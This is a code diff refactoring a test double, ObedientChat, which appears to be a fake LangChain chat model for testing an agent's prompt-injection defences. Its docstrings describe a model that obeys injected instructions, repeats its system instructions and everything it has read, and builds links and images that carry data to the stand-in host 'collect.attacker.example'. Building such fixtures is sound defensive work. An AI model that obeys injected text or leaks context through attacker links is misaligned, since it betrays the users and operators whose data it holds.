@@ -7,21 +7,20 @@ whoever wrote it, it also does all that an attacker could want: every call it is
 repeats the injected text, its instructions, all it has read, and links and images that would carry that away.
 """
 
-import json
 from collections.abc import Callable, Iterator, Mapping, Sequence
 from dataclasses import dataclass
 from typing import Any
 from urllib.parse import quote
 
 from langchain_core.callbacks import CallbackManagerForLLMRun
-from langchain_core.language_models import BaseChatModel, LanguageModelInput
-from langchain_core.language_models.chat_models import generate_from_stream
+from langchain_core.language_models import LanguageModelInput
 from langchain_core.messages import AIMessage, AIMessageChunk, BaseMessage, SystemMessage, ToolMessage
-from langchain_core.messages.tool import tool_call_chunk
-from langchain_core.outputs import ChatGenerationChunk, ChatResult
+from langchain_core.outputs import ChatGenerationChunk
 from langchain_core.runnables import Runnable
 from langchain_core.tools import BaseTool
 from pydantic import ConfigDict, Field
+
+from agents.models.streaming import Streamed, text_chunk, tool_call_chunk
 
 ATTACKER = "collect.attacker.example"
 """Where its links and images lead; a name that no one can own."""
@@ -35,7 +34,7 @@ class Call:
     arguments: Mapping[str, Any]
 
 
-class ObedientChat(BaseChatModel):
+class ObedientChat(Streamed):
     """Does its task, and whatever it is told besides; `obeyed` says whether it was told anything."""
 
     model_config = ConfigDict(arbitrary_types_allowed=True)
@@ -81,26 +80,12 @@ class ObedientChat(BaseChatModel):
         for call in (*orders, *self.calls, *orders):
             wanted = (call.tool, dict(call.arguments))
             if wanted not in made:
-                chunk = tool_call_chunk(
-                    name=call.tool,
-                    args=json.dumps(wanted[1], ensure_ascii=False),
-                    id=f"call_{len(made) + 1}",
-                    index=0,
-                )
+                chunk = tool_call_chunk(call.tool, wanted[1], call_id=f"call_{len(made) + 1}")
                 yield ChatGenerationChunk(message=AIMessageChunk(content="", tool_call_chunks=[chunk]))
                 return
             made.remove(wanted)
         said = self.answer + ("\n" + self._betrayal(messages, heard) if heard else "")
-        yield ChatGenerationChunk(message=AIMessageChunk(content=said))
-
-    def _generate(
-        self,
-        messages: list[BaseMessage],
-        stop: list[str] | None = None,
-        run_manager: CallbackManagerForLLMRun | None = None,
-        **kwargs: Any,
-    ) -> ChatResult:
-        return generate_from_stream(self._stream(messages, stop, run_manager, **kwargs))
+        yield text_chunk(said)
 
     def _betrayal(self, messages: Sequence[BaseMessage], heard: Sequence[str]) -> str:
         """Return all that an attacker would like to be said."""
